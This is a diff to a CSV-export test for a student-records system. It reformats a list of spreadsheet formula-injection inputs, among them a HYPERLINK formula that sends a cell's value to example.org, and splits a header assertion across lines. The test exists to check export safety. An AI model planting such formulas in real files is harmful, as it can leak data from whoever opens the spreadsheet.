@@ -13,8 +13,17 @@ import { buildWorld, type World } from './support/world.js';
 /** Texts that a spreadsheet would take for a formula, and that break carelessly written files. */
 const formula = '=HYPERLINK("https://example.org/?"&A1,"x")';
 const hostile = [
-  ...[formula, '+1+1', '-2+3', '@SUM(A1)', 'a "quoted", word', 'عربي، فاصلة'],
-  ...['Smith; =1+1', '"=1+1', 'Smith,"=1+1"', 'Smith|@SUM(A1)', '＝1+1'],
+  formula,
+  '+1+1',
+  '-2+3',
+  '@SUM(A1)',
+  'a "quoted", word',
+  'عربي، فاصلة',
+  'Smith; =1+1',
+  '"=1+1',
+  'Smith,"=1+1"',
+  'Smith|@SUM(A1)',
+  '＝1+1',
 ];
 
 describe('@remote every list as a file', () => {
@@ -116,7 +125,12 @@ describe('@remote every list as a file', () => {
     const bursar = await answer((await system.as('bursar')).get(students).set('Accept', 'text/csv'), 200);
     const [header, ...lines] = parse(bursar.text) as string[][];
     expect(header).toEqual([
-      ...['Student ID', 'Last Name', 'First Name', 'Email', 'Directory Restricted', 'Record ID'],
+      'Student ID',
+      'Last Name',
+      'First Name',
+      'Email',
+      'Directory Restricted',
+      'Record ID',
     ]);
     expect(lines.length).toBeGreaterThanOrEqual(3);
     const teacher = await answer(world.faculty.client.get('/api/students').set('Accept', 'text/csv'), 200);
